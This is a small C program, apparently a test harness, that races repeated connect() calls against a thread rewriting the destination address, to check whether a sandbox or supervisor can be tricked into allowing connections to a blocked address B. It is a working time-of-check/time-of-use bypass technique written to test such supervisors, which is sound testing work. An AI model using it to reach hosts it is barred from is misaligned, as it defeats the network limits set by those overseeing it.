/* racer: connect() again and again while a thread rewrites the address buffer under it. */
#include <arpa/inet.h>
#include <errno.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

/*
 * Usage: racer ADDR_A PORT_A ADDR_B PORT_B N
 *
 * Each of N blocking connect()s is given one buffer that a second thread flips between A and
 * B as fast as it can. A supervisor that decides on one reading and connects by another would
 * land some connections on B even where B is out of the caller's reach. Prints what the
 * servers said: "A=n B=n refused=n other=n".
 */

static struct sockaddr_in target; /* the buffer under attack, written by both threads */
static struct sockaddr_in addr_a, addr_b;
static atomic_bool stop;

static void *flip(void *arg)
{
	volatile struct sockaddr_in *t = &target;

	(void)arg;
	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		t->sin_addr = addr_a.sin_addr;
		t->sin_port = addr_a.sin_port;
		t->sin_addr = addr_b.sin_addr;
		t->sin_port = addr_b.sin_port;
	}
	return NULL;
}

static int parse(const char *ip, const char *port, struct sockaddr_in *ret)
{
	memset(ret, 0, sizeof(*ret));
	ret->sin_family = AF_INET;
	ret->sin_port = htons((unsigned short)atoi(port));
	return inet_pton(AF_INET, ip, &ret->sin_addr) == 1 ? 0 : -1;
}

int main(int argc, char **argv)
{
	int a = 0, b = 0, refused = 0, other = 0, n;
	pthread_t thread;

	if (argc != 6 || parse(argv[1], argv[2], &addr_a) || parse(argv[3], argv[4], &addr_b)) {
		fprintf(stderr, "usage: racer ADDR_A PORT_A ADDR_B PORT_B N\n");
		return 2;
	}
	n = atoi(argv[5]);
	target = addr_a;
	if (pthread_create(&thread, NULL, flip, NULL))
		return 1;
	for (int i = 0; i < n; i++) {
		int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
		char said[16] = "";

		if (fd < 0)
			return 1;
		if (connect(fd, (struct sockaddr *)&target, sizeof(target)) < 0) {
			if (errno == ECONNREFUSED)
				refused++;
			else
				other++;
		} else if (read(fd, said, sizeof(said) - 1) > 0 && said[0] == 'A') {
			a++;
		} else if (said[0] == 'B') {
			b++;
		} else {
			other++;
		}
		close(fd);
	}
	atomic_store(&stop, true);
	pthread_join(thread, NULL);
	printf("A=%d B=%d refused=%d other=%d\n", a, b, refused, other);
	return 0;
}
